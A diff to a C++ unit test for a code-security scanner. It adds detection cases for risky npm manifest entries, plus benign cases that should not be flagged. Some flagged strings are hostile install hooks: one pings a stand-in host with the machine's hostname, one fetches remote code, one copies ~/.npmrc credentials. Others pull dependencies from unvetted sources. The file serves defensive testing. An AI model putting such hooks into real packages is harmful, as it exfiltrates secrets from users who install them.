@@ -131,6 +131,14 @@ TEST(Code, SeesWhatTheFoundingPatternsMiss) {
            Case{"subprocess.run(cmd, shell=True)", "code.py-shell"},
            Case{"pickle.loads(data)", "code.py-unpickle"},
            Case{"\"postinstall\": \"node -e require('x')\"", "code.npm-install-hook"},
+           Case{"\"postinstall\": \"ping -c1 $(hostname).x.example\"", "code.npm-hook-reaches-out"},
+           Case{"{\"preinstall\":\"node -e \\\"require('https').get('x')\\\"\"}", "code.npm-hook-reaches-out"},
+           Case{"\"prepare\": \"npx --yes acme/setup\"", "code.npm-hook-reaches-out"},
+           Case{"\"install\": \"cat ~/.npmrc > x\"", "code.npm-hook-reaches-out"},
+           Case{"\"dependencies\": {\"a\": \"1.0.0\", \"b\": \"git+ssh://git@host.example/b.git\"}", "code.dependency-source"},
+           Case{"\"devDependencies\": {\"b\": \"acme/b#main\"}", "code.dependency-source"},
+           Case{"\"resolutions\": {\"b\": \"https://host.example/b.tgz\"}", "code.dependency-source"},
+           Case{"\"dependencies\": {\"our-lib\": \"^999.0.1\"}", "code.dependency-version"},
            Case{"npm install x --registry https://r.example/", "code.package-source"},
            Case{"\"security.workspace.trust.enabled\": false", "code.editor-settings"},
            Case{"function checkAuth(user) {\n  return true", "code.auth-bypass"},
@@ -143,7 +151,13 @@ TEST(Code, SeesWhatTheFoundingPatternsMiss) {
   }
   for (std::string_view code :
        {"const x = require('https');", "format(code)", "retrieval(x)", "myFunction(x)", "evaluate(model)", "import fs from 'fs'",
-        "git push origin feature", "re.compile(r'x')", "npm install left", "print(environment)", "spawn(task)"}) {
+        "git push origin feature", "re.compile(r'x')", "npm install left", "print(environment)", "spawn(task)",
+        "{\"repository\": {\"url\": \"git+https://github.example/a/b.git\"}, \"scripts\": {\"prepare\": \"husky\", \"postinstall\": "
+        "\"patch-package\"}}",
+        "\"preinstall\": \"npx only-allow pnpm\", \"dependencies\": {\"a\": \"workspace:*\", \"b\": \"npm:c@1.0.0\", \"@s/d\": "
+        "\"^19.0.1\"}",
+        "\"dependencies\": {\"a\": \"1.0.0\"}, \"homepage\": \"https://a.example/\", \"files\": [\"a/b\"]",
+        "\"install\": \"node-gyp rebuild\""}) {
     Findings findings;
     scanner->scan(code, findings);
     EXPECT_TRUE(findings.empty()) << code << " " << (findings.empty() ? "" : findings.all()[0].rule);
